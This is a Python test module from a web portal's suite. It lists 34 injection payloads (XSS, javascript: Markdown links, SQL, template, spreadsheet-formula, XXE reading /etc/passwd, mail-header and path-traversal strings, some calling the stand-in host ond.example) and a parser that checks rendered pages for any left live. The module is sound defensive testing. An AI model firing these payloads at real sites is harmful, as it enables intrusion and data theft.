"""Texts that somebody might write to harm a reader, a file or a program: shared by all parts.

None of them may be alive in any page, PDF, feed, mail or export; each is kept and shown as the
words that it is (apart from characters that no text of the portal holds, see `tidy`).
"""

from html.parser import HTMLParser

ATTACKS = (
    # Markup that runs
    "<script>alert(1)</script>",
    '"><script src=//ond.example/a.js></script>',
    "<ScRiPt\n>alert(1)</sCrIpT\n>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    '<svg><a xlink:href="javascript:alert(1)"><text y="9">x</text></a></svg>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<div style="background:url(javascript:alert(1));width:expression(alert(1))">x</div>',
    '<style>@import "//ond.example/a.css";*{display:none}</style>',
    '<form action="//ond.example/"><button>Logga in</button></form>',
    "' autofocus onfocus=alert(1) x='",
    "</textarea></title><body onpageshow=alert(1)>",
    # Links in Markdown, in many spellings
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](java&#115;cript&colon;alert(1))",
    "[a](<java\tscript:alert(1)>)",
    "[a]( \x01javascript:alert(1))",
    "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[a](vbscript:msgbox(1))",
    "<javascript:alert(1)>",
    "[a][1]\n\n[1]: javascript:alert(1)",
    '![a](https://ond.example/a.png "x" onerror=alert(1))',
    "[" * 600 + "a" + "](javascript:1)" * 600,
    # Other languages that the text passes through
    "{{ 7*7 }}{% debug %}{% include 'admin/base.html' %}${7*7}#{7*7}",
    "'; DROP TABLE organisations_answer; -- \" OR 1=1",
    '=HYPERLINK("http://ond.example/","x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3;@SUM(1+9)*cmd",
    "\t=1+1\r\n@x",
    '#import "/etc/passwd": *\n#read("/etc/passwd")\n$ #panic() $ @x <x> \\ `',
    ']]><!--<![CDATA[<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    "rad\r\nBcc: alla@example.se\r\nContent-Type: text/html\r\n\r\n<script>1</script>",
    # Characters that cannot be seen, or that no program expects
    "../../../etc/passwd\x00.md \u202egpj.exe\u202c \u200b\u200d\ufeff \ud7ff\uffff \U0001f4a9",
    "å" * 9000 + "\n" + "z\u0301\u0302\u0303" * 300,
)

NUMBER = 34
assert len(ATTACKS) == NUMBER

ADDRESSES = {"src", "action", "formaction", "href", "xlink:href"}
NEVER_WRITTEN_BY_US = {"iframe", "style", "object", "embed", "base", "img"}


class Reader(HTMLParser):
    """Collects what in a page would run, load from elsewhere or lead there."""

    def __init__(self):
        super().__init__()
        self.found = []

    def handle_starttag(self, tag, attrs):
        for name, value in attrs:
            address = "".join((value or "").split()).lower()
            if name.startswith("on") or name in {"style", "srcdoc"}:
                self.found.append(f"{tag} {name}")
            if address.startswith(("javascript:", "data:", "vbscript:")):
                self.found.append(f"{tag} {name}={address[:30]}")
            if name in ADDRESSES and "ond.example" in address:
                self.found.append(f"{tag} {name}={address[:40]}")
        if tag in NEVER_WRITTEN_BY_US or (tag == "script" and "src" not in dict(attrs)):
            self.found.append(tag)


def alive(html):
    """What is alive of the attacks in a page of the portal: a list of words, empty when none.

    The page is parsed, not searched as text: an escaped attack is harmless and looks the same.
    """
    reader = Reader()
    reader.feed(html)
    reader.close()
    return reader.found
